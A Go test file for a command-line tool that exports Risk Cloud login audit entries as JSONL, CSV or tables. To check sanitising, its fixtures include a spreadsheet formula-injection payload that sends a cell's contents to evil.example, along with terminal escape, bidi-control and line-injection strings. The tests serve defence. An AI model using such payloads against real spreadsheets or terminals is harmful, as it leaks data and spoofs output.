package main

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/riskcloud-go/riskcloud"
	"github.com/riskcloud-go/riskcloud/riskcloudtest"
)

var testEnd = time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)

func TestRun_jsonl(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	entries := entriesAt(45, testEnd)
	srv.Add(entries...)

	res := harness{env: tokenEnv(srv)}.run(t, "--format", "jsonl", "--size", "10", "logins")
	if res.code != exitOK {
		t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
	}
	recs := jsonLines(t, res.stdout)
	if len(recs) != 23 { // the 23 logins of 45 alternating entries
		t.Fatalf("got %d lines, want 23", len(recs))
	}
	first := recs[0]
	if first.Type != "Login" || first.Timestamp == nil || *first.Timestamp != "2026-11-01T12:00:00.000Z" ||
		first.Message != nil || first.RemoteAddress != "198.51.100.1" {
		t.Errorf("first record = %+v", first)
	}
	if res.stderr != "" {
		t.Errorf("stderr = %q, want nothing", res.stderr)
	}
}

// TestRun_jsonl_keyOrder checks that each line has the keys in one fixed
// order, whatever the server sent.
func TestRun_jsonl_keyOrder(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Add(riskcloud.Entry{Raw: []byte(`{"remoteAddress":"192.0.2.7","extra":1,"message":"Bad <credentials> & more","timestamp":"2026-11-01T10:00:00.5+02:00","type":"LoginFail"}`),
		Type: riskcloud.LoginFail, Timestamp: testEnd})

	res := harness{env: tokenEnv(srv)}.run(t, "failures")
	want := `{"type":"LoginFail","timestamp":"2026-11-01T08:00:00.500Z","message":"Bad <credentials> & more","remoteAddress":"192.0.2.7","email":null,"id":"` +
		servedID(srv, 0) + `"}` + "\n"
	if res.code != exitOK || res.stdout != want {
		t.Errorf("exit %d, stdout\n%s\nwant\n%s", res.code, res.stdout, want)
	}
}

func TestRun_csv(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Add(entriesAt(4, testEnd.Add(-time.Hour))...)
	srv.Add(riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: testEnd,
		Message: `=HYPERLINK("http://evil.example/?"&A1,"click")`, RemoteAddress: "+1"})
	srv.Add(riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: testEnd.Add(-time.Minute),
		Message: "@SUM(1+1)", RemoteAddress: "-2+3"})

	res := harness{env: tokenEnv(srv)}.run(t, "--format", "csv", "failures")
	if res.code != exitOK {
		t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(res.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	served := srv.Entries() // newest first: failure, failure, login, failure, login, failure
	want := [][]string{
		{"timestamp", "type", "remote_address", "message", "email", "id"},
		{"2026-11-01T12:00:00.000Z", "LoginFail", "'+1", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "", riskcloud.EntryID(served[0], 0)},
		{"2026-11-01T11:59:00.000Z", "LoginFail", "'-2+3", "'@SUM(1+1)", "", riskcloud.EntryID(served[1], 0)},
		{"2026-11-01T10:59:00.000Z", "LoginFail", "198.51.100.2", "Bad credentials", "", riskcloud.EntryID(served[3], 0)},
		{"2026-11-01T10:57:00.000Z", "LoginFail", "198.51.100.4", "Bad credentials", "", riskcloud.EntryID(served[5], 0)},
	}
	if len(rows) != len(want) {
		t.Fatalf("got %d rows, want %d:\n%s", len(rows), len(want), res.stdout)
	}
	for i := range want {
		if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d = %q, want %q", i, rows[i], want[i])
		}
	}
}

// TestRun_jsonl_nonGraphicEscaped checks that a line holds no raw C1 or
// bidi control (which a terminal or jq -c would act on), yet decodes to
// what the server sent.
func TestRun_jsonl_nonGraphicEscaped(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	msg := "\u009b2J\u009d0;evil\u009cBad\x7f\u200e credentials\u2066"
	srv.Add(riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: testEnd, Message: msg, RemoteAddress: "10.0.0.1\u202e\x1b[2J"})

	res := harness{env: tokenEnv(srv)}.run(t, "--format", "jsonl", "failures")
	want := `{"type":"LoginFail","timestamp":"2026-11-01T12:00:00.000Z","message":"\u009b2J\u009d0;evil\u009cBad\u007f\u200e credentials\u2066","remoteAddress":"10.0.0.1\u202e\u001b[2J","email":null,"id":"` +
		servedID(srv, 0) + `"}` + "\n"
	if res.code != exitOK || res.stdout != want {
		t.Fatalf("exit %d, stdout\n%s\nwant\n%s", res.code, res.stdout, want)
	}
	recs := jsonLines(t, res.stdout)
	if len(recs) != 1 || recs[0].Message == nil || *recs[0].Message != msg || recs[0].RemoteAddress != "10.0.0.1\u202e\x1b[2J" {
		t.Errorf("decoded %+v", recs)
	}
}

// TestRun_csv_terminal checks that CSV loses control sequences as the
// table does, on a terminal and in a file alike (rough edge 7).
func TestRun_csv_terminal(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Add(riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: testEnd,
		Message: "\x1b]0;evil\x07Bad\u009b2J credentials", RemoteAddress: "\x1b[0m=1+1\u202e"})
	for _, tt := range []struct {
		name      string
		stdoutTTY bool
		want      string
	}{
		{"terminal", true, "2026-11-01T12:00:00.000Z,LoginFail,'=1+1,Bad credentials,," + servedID(srv, 0) + "\n"},
		{"file", false, "2026-11-01T12:00:00.000Z,LoginFail,'=1+1,Bad credentials,," + servedID(srv, 0) + "\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := harness{env: tokenEnv(srv), stdoutTTY: tt.stdoutTTY}.run(t, "--format", "csv", "failures")
			want := "timestamp,type,remote_address,message,email,id\n" + tt.want
			if res.code != exitOK || res.stdout != want {
				t.Errorf("exit %d, stdout %q, want %q", res.code, res.stdout, want)
			}
		})
	}
}

func TestRun_csv_emptyHasHeader(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	res := harness{env: tokenEnv(srv)}.run(t, "--format", "csv", "logins")
	if res.code != exitOK || res.stdout != "timestamp,type,remote_address,message,email,id\n" {
		t.Errorf("exit %d, stdout %q", res.code, res.stdout)
	}
}

func TestRun_table(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Add(riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: testEnd,
		Message: "\x1b]0;evil\x07\x1b[31mBad credentials\x1b[0m\r\nInjected line", RemoteAddress: "10.0.0.1\u202e"})
	srv.Add(riskcloud.Entry{Type: riskcloud.Login, Timestamp: testEnd.Add(-time.Second), RemoteAddress: "2001:db8::1"})

	res := harness{env: tokenEnv(srv)}.run(t, "--format", "table", "attempts", riskcloudtest.DefaultEmail)
	if res.code != exitOK {
		t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
	}
	want := "" +
		"ID                                TIMESTAMP                 TYPE       EMAIL              REMOTE ADDRESS                           MESSAGE\n" +
		servedID(srv, 0) + "  2026-11-01T12:00:00.000Z  LoginFail  alice@example.com  10.0.0.1                                 Bad credentials  Injected line\n" +
		servedID(srv, 1) + "  2026-11-01T11:59:59.000Z  Login      alice@example.com  2001:db8::1\n"
	if res.stdout != want {
		t.Errorf("stdout\n%q\nwant\n%q", res.stdout, want)
	}
}

func TestRun_defaultFormat(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Add(entriesAt(3, testEnd)...)
	tests := []struct {
		name      string
		stdoutTTY bool
		want      string
	}{
		{"pipe", false, `{"type":"Login",`},
		{"terminal", true, "ID                                TIMESTAMP "},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := harness{env: tokenEnv(srv), stdoutTTY: tt.stdoutTTY}.run(t, "logins")
			if res.code != exitOK || !strings.HasPrefix(res.stdout, tt.want) {
				t.Errorf("exit %d, stdout %q, want it to start with %q", res.code, res.stdout, tt.want)
			}
		})
	}
}

func TestRun_since(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Add(entriesAt(60*72, testEnd)...) // three days, a minute apart
	now := func() time.Time { return testEnd.Add(30 * time.Second) }
	tests := []struct {
		since string
		want  int // entries (logins and failures) at or after
	}{
		{"24h", 60 * 24},                  // testEnd-23h59m30s on
		{"90m", 90},                       // testEnd-89m30s on
		{"1d", 60 * 24},                   // days
		{"2d30m", 60*48 + 30},             // days and a duration
		{"2026-11-01T11:00:00Z", 61},      // inclusive: 11:00 itself is kept
		{"2026-11-01T12:00:00+01:00", 61}, // 11:00 UTC
		{"2026-11-01", 60*12 + 1},         // midnight UTC
	}
	for _, tt := range tests {
		t.Run(tt.since, func(t *testing.T) {
			t.Parallel()
			res := harness{env: tokenEnv(srv), now: now}.run(t, "--since", tt.since, "attempts", riskcloudtest.DefaultEmail)
			if res.code != exitOK {
				t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
			}
			recs := jsonLines(t, res.stdout)
			if len(recs) != tt.want {
				t.Errorf("got %d entries, want %d", len(recs), tt.want)
			}
		})
	}
}

func TestRun_limitAndSize(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		args     []string
		want     int
		wantSize string
	}{
		{"limit", []string{"--limit", "25", "logins"}, 25, "25"},
		{"limit and size", []string{"--limit", "25", "--size", "7", "logins"}, 25, "7"},
		{"size", []string{"--size", "7", "logins"}, 50, "7"},
		{"default size", []string{"logins"}, 50, "500"},
		{"server default", []string{"--size", "0", "logins"}, 50, ""},
		{"flags after command", []string{"logins", "--size", "9", "--limit", "11"}, 11, "9"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv := newServer(t)
			srv.Add(entriesAt(100, testEnd)...)
			res := harness{env: tokenEnv(srv)}.run(t, tt.args...)
			if res.code != exitOK {
				t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
			}
			if got := len(jsonLines(t, res.stdout)); got != tt.want {
				t.Errorf("got %d entries, want %d", got, tt.want)
			}
			reqs := srv.Requests()
			if len(reqs) == 0 {
				t.Fatal("no requests")
			}
			for _, r := range reqs {
				if got := r.Query.Get("size"); got != tt.wantSize {
					t.Errorf("request for page %s asked for size %q, want %q", r.Query.Get("page"), got, tt.wantSize)
				}
			}
		})
	}
}

func TestRun_attempts(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Add(entriesAt(10, testEnd)...)
	srv.AddFor("bob@example.com", entriesAt(3, testEnd.Add(-time.Hour))...)

	res := harness{env: tokenEnv(srv)}.run(t, "attempts", "bob@example.com")
	if res.code != exitOK {
		t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
	}
	if got := len(jsonLines(t, res.stdout)); got != 3 {
		t.Errorf("got %d entries, want bob's 3", got)
	}
	for _, r := range srv.Requests() {
		if r.Path != "/api/v1/access-audit" || r.Query.Get("email") != "bob@example.com" {
			t.Errorf("request %s?%s", r.Path, r.Query.Encode())
		}
	}
}

// TestRun_prefetchReusesConnections: with --prefetch 8, a walk of 150
// pages keeps about one connection per request in flight. With the
// default pool (two idle connections per host) it dials most of the way.
func TestRun_prefetchReusesConnections(t *testing.T) {
	t.Parallel()
	srv := newServer(t, riskcloudtest.WithEntries(riskcloudtest.Generate(3000, 1)...))
	res := harness{env: tokenEnv(srv)}.run(t, "--size", "20", "--prefetch", "8", "attempts", riskcloudtest.DefaultEmail)
	if res.code != exitOK {
		t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
	}
	if n := len(jsonLines(t, res.stdout)); n != 3000 {
		t.Fatalf("got %d lines, want 3000", n)
	}
	// Nine requests at a time need nine connections, and a few more when a
	// request dials while waiting for one to come back.
	if st := srv.Stats(); st.Connections > 18 {
		t.Errorf("%d connections for %d page requests, want at most 18", st.Connections, st.PageRequests)
	}
}

func TestRun_badArguments(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		args []string
		want string // in stderr
	}{
		{"negative limit", []string{"--limit", "-1", "logins"}, "--limit"},
		{"limit not a number", []string{"--limit", "ten", "logins"}, "-limit"},
		{"negative size", []string{"--size", "-5", "logins"}, "--size"},
		{"huge size", []string{"--size", "3000000000", "logins"}, "size"}, // 32-bit: the flag package's "-size"
		{"negative prefetch", []string{"--prefetch", "-1", "logins"}, "--prefetch"},
		{"huge prefetch", []string{"--prefetch", "65", "logins"}, "--prefetch must be at most 64"},
		{"since", []string{"--since", "yesterday", "logins"}, "--since"},
		{"negative since", []string{"--since", "-24h", "logins"}, "--since"},
		{"format", []string{"--format", "xml", "logins"}, "--format"},
		{"unknown flag", []string{"--verbosity", "logins"}, "--verbosity"},
		{"empty url", []string{"--url", "", "logins"}, "--url"},
		{"url and demo", []string{"--demo", "--url", "https://acme.logicgate.com", "logins"}, "--demo"},
		{"empty since", []string{"--since", "", "logins"}, "--since"},
		{"no command", nil, "missing command"},
		{"unknown command", []string{"users"}, `"users"`},
		{"attempts without email", []string{"attempts"}, "EMAIL"},
		{"extra argument", []string{"logins", "now"}, `"now"`},
		{"attempts extra argument", []string{"attempts", "bob@example.com", "carol@example.com"}, "carol@example.com"},
		{"flag after command", []string{"logins", "--limit", "-1"}, "--limit"},
		{"bad email", []string{"attempts", "Bob <bob@example.com>"}, "email"},
		{"empty email", []string{"attempts", ""}, "email"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv := newServer(t)
			srv.Add(entriesAt(5, testEnd)...)
			res := harness{env: tokenEnv(srv)}.run(t, tt.args...)
			if res.code != exitUsage {
				t.Errorf("exit %d, want %d", res.code, exitUsage)
			}
			if !strings.Contains(res.stderr, tt.want) {
				t.Errorf("stderr %q does not mention %q", res.stderr, tt.want)
			}
			if res.stdout != "" {
				t.Errorf("stdout = %q, want nothing", res.stdout)
			}
			if n := srv.Stats().Requests; n != 0 {
				t.Errorf("%d requests, want none", n)
			}
		})
	}
}

func TestRun_help(t *testing.T) {
	t.Parallel()
	for _, args := range [][]string{{"-h"}, {"--help"}, {"help"}, {"logins", "-help"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			t.Parallel()
			res := harness{}.run(t, args...)
			if res.code != exitOK {
				t.Errorf("exit %d, want 0", res.code)
			}
			for _, want := range []string{"usage: riskcloud-audit", "--format jsonl ", "--format csv ", "--format table ",
				"RISKCLOUD_TOKEN", "RISKCLOUD_CLIENT_SECRET", riskcloudtest.DefaultEmail, "Admin > All"} {
				if !strings.Contains(res.stdout, want) {
					t.Errorf("help does not mention %q", want)
				}
			}
		})
	}
}

func TestRun_configuration(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	tests := []struct {
		name string
		env  map[string]string
		args []string
		want []string // in stderr
	}{
		{"no url", map[string]string{envToken: "rct_fake-token"}, nil,
			[]string{"set RISKCLOUD_URL (or pass --url)", "https://acme.logicgate.com"}},
		{"no credentials", map[string]string{envURL: srv.URL}, nil,
			[]string{"set RISKCLOUD_TOKEN, or RISKCLOUD_CLIENT_ID and RISKCLOUD_CLIENT_SECRET"}},
		{"both", map[string]string{envURL: srv.URL, envToken: "rct_fake-token", envClientID: "id", envClientSecret: "fake-secret"}, nil,
			[]string{"RISKCLOUD_TOKEN", "RISKCLOUD_CLIENT_ID"}},
		{"no secret", map[string]string{envURL: srv.URL, envClientID: "id"}, nil,
			[]string{"RISKCLOUD_CLIENT_SECRET is not"}},
		{"no client id", map[string]string{envURL: srv.URL, envClientSecret: "fake-secret"}, nil,
			[]string{"RISKCLOUD_CLIENT_ID is not"}},
		{"url without scheme", map[string]string{envURL: "acme.logicgate.com", envToken: "rct_fake-token"}, nil,
			[]string{"RISKCLOUD_URL", "scheme"}},
		{"plain http", map[string]string{envToken: "rct_fake-token"}, []string{"--url", "http://acme.logicgate.com"},
			[]string{"--url", "https"}},
		{"token with a newline", map[string]string{envURL: srv.URL, envToken: "abc\n"}, nil,
			[]string{"control character"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := harness{env: tt.env}.run(t, append(tt.args, "logins")...)
			if res.code != exitUsage {
				t.Errorf("exit %d, want %d", res.code, exitUsage)
			}
			for _, want := range tt.want {
				if !strings.Contains(res.stderr, want) {
					t.Errorf("stderr %q does not mention %q", res.stderr, want)
				}
			}
		})
	}
	if n := srv.Stats().Requests; n != 0 {
		t.Errorf("%d requests, want none", n)
	}
}

func TestRun_apiErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		opts  []riskcloudtest.Option
		env   func(*riskcloudtest.Server) map[string]string
		fault *riskcloudtest.Fault
		want  []string
	}{
		{name: "forbidden", opts: []riskcloudtest.Option{riskcloudtest.WithoutAdmin()},
			want: []string{"403", "Access is denied", "Admin > All"}},
		{name: "unauthorized",
			env: func(s *riskcloudtest.Server) map[string]string {
				return map[string]string{envURL: s.URL, envToken: "rct_not-the-token"}
			},
			want: []string{"401", "GET /api/v1/access-audit/failures"}},
		{name: "unavailable", fault: &riskcloudtest.Fault{Status: http.StatusServiceUnavailable},
			want: []string{"503"}},
		{name: "bad client credentials",
			opts: []riskcloudtest.Option{riskcloudtest.WithClientCredentials("id", "secret")},
			env: func(s *riskcloudtest.Server) map[string]string {
				return map[string]string{envURL: s.URL, envClientID: "id", envClientSecret: "wrong"}
			},
			want: []string{"401", "client ID and secret were rejected"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv := newServer(t, tt.opts...)
			srv.Add(entriesAt(5, testEnd)...)
			if tt.fault != nil {
				srv.FailNext(10, *tt.fault)
			}
			env := tokenEnv(srv)
			if tt.env != nil {
				env = tt.env(srv)
			}
			res := harness{env: env}.run(t, "failures")
			if res.code != exitAPI {
				t.Errorf("exit %d, want %d", res.code, exitAPI)
			}
			for _, want := range tt.want {
				if !strings.Contains(res.stderr, want) {
					t.Errorf("stderr %q does not mention %q", res.stderr, want)
				}
			}
			if !strings.HasPrefix(res.stderr, name+": ") || strings.Contains(res.stderr, "riskcloud: ") {
				t.Errorf("stderr %q: want one %q prefix", res.stderr, name+": ")
			}
		})
	}
}

func TestRun_noEntries(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	res := harness{env: tokenEnv(srv)}.run(t, "logins")
	if res.code != exitOK || res.stdout != "" {
		t.Errorf("exit %d, stdout %q", res.code, res.stdout)
	}
	if !strings.Contains(res.stderr, "no entries") || !strings.Contains(res.stderr, "Admin > All") {
		t.Errorf("stderr %q does not explain the empty result", res.stderr)
	}
}

func TestRun_progress(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Add(entriesAt(50, testEnd)...)
	// Each reading of the clock is a second later, so every page redraws.
	var ticks time.Duration
	now := func() time.Time { ticks += time.Second; return testEnd.Add(ticks) }

	res := harness{env: tokenEnv(srv), stderrTTY: true, now: now}.run(t, "--size", "10", "--limit", "45", "attempts", riskcloudtest.DefaultEmail)
	if res.code != exitOK {
		t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
	}
	// --limit cuts the walk short: the server's total is not the walk's.
	want := "\r10 entries  10/s  0:01\r20 entries  10/s  0:02\r30 entries  10/s  0:03\r40 entries  10/s  0:04\r45 entries  9/s  0:05 \r                     \r"
	if res.stderr != want {
		t.Errorf("stderr\n%q\nwant\n%q", res.stderr, want)
	}
	if got := len(jsonLines(t, res.stdout)); got != 45 {
		t.Errorf("%d entries, want 45", got)
	}

	// With stdout on the terminal too, the rows themselves show progress.
	res = harness{env: tokenEnv(srv), stdoutTTY: true, stderrTTY: true, now: now}.run(t, "--size", "10", "logins")
	if res.stderr != "" {
		t.Errorf("stderr %q, want no progress line", res.stderr)
	}
}

func TestRun_interrupted(t *testing.T) {
	t.Parallel()
	for _, format := range []string{"jsonl", "csv", "table"} {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			release := make(chan struct{})
			// Page 1 is asked for only once page 0 has been written: the
			// user presses Ctrl-C then, and the server never answers.
			srv := newServer(t, riskcloudtest.WithBeforePage(func(_ *riskcloudtest.Server, page int) {
				if page == 1 {
					cancel()
					<-release
				}
			}))
			defer close(release) // before srv.Close, which waits for the handler
			srv.Add(entriesAt(50, testEnd)...)

			res := harness{env: tokenEnv(srv), ctx: ctx}.run(t, "--size", "10", "--format", format, "attempts", riskcloudtest.DefaultEmail)
			if res.code != exitInterrupted {
				t.Errorf("exit %d, want %d; stderr %q", res.code, exitInterrupted, res.stderr)
			}
			if !strings.Contains(res.stderr, "interrupted after 10 entries") {
				t.Errorf("stderr %q", res.stderr)
			}
			lines := strings.SplitAfter(res.stdout, "\n")
			if lines[len(lines)-1] != "" {
				t.Errorf("last line is incomplete: %q", res.stdout)
			}
			if want := map[string]int{"jsonl": 10, "csv": 11, "table": 11}[format]; len(lines)-1 != want {
				t.Errorf("%d lines written, want %d:\n%s", len(lines)-1, want, res.stdout)
			}
			if format == "jsonl" {
				jsonLines(t, res.stdout)
			}
		})
	}
}

func TestRun_demo(t *testing.T) {
	t.Parallel()
	// The demo ignores the environment's instance and credentials.
	env := map[string]string{envURL: "not a url", envToken: "rct_fake-token", envClientID: "id"}
	now := func() time.Time { return testEnd }

	t.Run("failures", func(t *testing.T) {
		t.Parallel()
		res := harness{env: env, now: now}.run(t, "--demo", "--since", "24h", "failures")
		if res.code != exitOK {
			t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
		}
		recs := jsonLines(t, res.stdout)
		if len(recs) < 50 {
			t.Errorf("%d failures in the demo's last 24 hours, want dozens", len(recs))
		}
		for _, r := range recs {
			ts, err := time.Parse(time.RFC3339Nano, *r.Timestamp)
			if r.Type != "LoginFail" || err != nil || ts.Before(testEnd.Add(-24*time.Hour)) || ts.After(testEnd) {
				t.Fatalf("record %+v is not a failure of the last 24 hours", r)
			}
		}
		if res.stderr != "riskcloud-audit: demo: reading a generated Risk Cloud served in-process\n" {
			t.Errorf("stderr %q", res.stderr)
		}
	})
	t.Run("attempts", func(t *testing.T) {
		t.Parallel()
		res := harness{env: env, now: now}.run(t, "--demo", "--limit", "7", "attempts", riskcloudtest.DefaultEmail)
		if got := len(jsonLines(t, res.stdout)); res.code != exitOK || got != 7 {
			t.Errorf("exit %d, %d entries, want 7", res.code, got)
		}
	})
	t.Run("attempts of another user", func(t *testing.T) {
		t.Parallel()
		res := harness{env: env, now: now}.run(t, "--demo", "attempts", "bob@example.com")
		if res.code != exitOK || res.stdout != "" || !strings.Contains(res.stderr, riskcloudtest.DefaultEmail) {
			t.Errorf("exit %d, stdout %q, stderr %q", res.code, res.stdout, res.stderr)
		}
	})
}

func TestParseSince(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 1, 12, 0, 0, 0, time.FixedZone("CET", 3600))
	tests := []struct {
		in   string
		want time.Time
		err  bool
	}{
		{in: "24h", want: now.Add(-24 * time.Hour)},
		{in: "90m", want: now.Add(-90 * time.Minute)},
		{in: "0s", want: now},
		{in: "7d", want: now.Add(-7 * 24 * time.Hour)},
		{in: "1d12h", want: now.Add(-36 * time.Hour)},
		{in: "2026-10-31", want: time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC)},
		{in: "2026-10-31T23:00:00Z", want: time.Date(2026, 10, 31, 23, 0, 0, 0, time.UTC)},
		{in: "2026-10-31T23:00:00.25-05:00", want: time.Date(2026, 11, 1, 4, 0, 0, 250e6, time.UTC)},
		{in: "", err: true},
		{in: "d", err: true},
		{in: "7days", err: true},
		{in: "-1h", err: true},
		{in: "1d-1h", err: true},
		{in: "99999999999999999999d", err: true},
		{in: "2026-13-01", err: true},
		{in: "2026-10-31 23:00:00", err: true},
	}
	for _, tt := range tests {
		got, err := parseSince(tt.in, now)
		switch {
		case tt.err && err == nil:
			t.Errorf("parseSince(%q) = %v, want an error", tt.in, got)
		case !tt.err && err != nil:
			t.Errorf("parseSince(%q): %v", tt.in, err)
		case !tt.err && (!got.Equal(tt.want) || got.Location() != time.UTC):
			t.Errorf("parseSince(%q) = %v, want %v in UTC", tt.in, got, tt.want)
		case tt.err && !strings.Contains(err.Error(), "--since"):
			t.Errorf("parseSince(%q) error %q does not name the flag", tt.in, err)
		}
	}
}

// servedID is the id of the server's i-th entry (newest first), which has
// no identical twin.
func servedID(srv *riskcloudtest.Server, i int) string {
	return riskcloud.EntryID(srv.Entries()[i], 0)
}
